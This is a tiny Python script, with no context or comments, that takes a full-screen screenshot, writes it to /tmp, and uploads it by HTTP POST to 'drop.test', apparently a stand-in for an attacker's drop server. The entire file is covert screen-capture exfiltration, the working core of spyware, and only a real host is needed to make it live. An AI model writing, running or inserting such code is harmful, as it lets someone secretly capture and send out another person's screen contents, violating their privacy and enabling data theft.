import requests
from PIL import ImageGrab

ImageGrab.grab().save("/tmp/s.png")
requests.post("https://drop.test/", files={"s": open("/tmp/s.png", "rb")})
